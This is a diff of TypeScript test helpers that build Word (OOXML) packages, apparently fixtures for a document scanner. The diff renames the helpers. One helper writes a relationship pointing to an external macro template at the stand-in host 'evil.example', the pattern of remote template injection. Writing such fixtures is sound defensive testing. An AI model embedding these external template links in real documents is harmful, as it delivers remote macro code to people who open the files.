@@ -41,10 +41,10 @@ export function ole(...names: readonly string[]): Buffer {
 
 const relations = (body: string): string =>
   `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
-const typed = (kind: string): string => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`;
+const typeAttribute = (kind: string): string => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`;
 
-export const outside = (kind: string, target = 'https://evil.example/a.dotm', mode = 'External'): string =>
-  `<Relationship Id="rId1" ${typed(kind)} Target="${target}" TargetMode="${mode}"/>`;
+export const relationship = (kind: string, target = 'https://evil.example/a.dotm', mode = 'External'): string =>
+  `<Relationship Id="rId1" ${typeAttribute(kind)} Target="${target}" TargetMode="${mode}"/>`;
 
 /** A Word file whose settings have these relationships, packed as Word packs it. */
 export const docxWith = (body: string, encode: (text: string) => Buffer = (text) => Buffer.from(text)): Buffer =>
